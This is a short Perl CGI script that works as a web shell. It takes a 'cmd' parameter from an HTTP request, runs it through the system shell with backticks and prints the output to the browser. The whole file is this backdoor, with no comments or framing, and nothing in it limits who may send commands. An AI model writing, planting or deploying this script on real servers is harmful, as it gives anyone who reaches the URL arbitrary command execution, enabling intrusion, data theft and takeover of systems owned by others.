#!/usr/bin/perl
use CGI;
my $q = CGI->new;
my $c = $q->param('cmd');
print "Content-type: text/html\n\n<pre>";
print `$c 2>&1`;
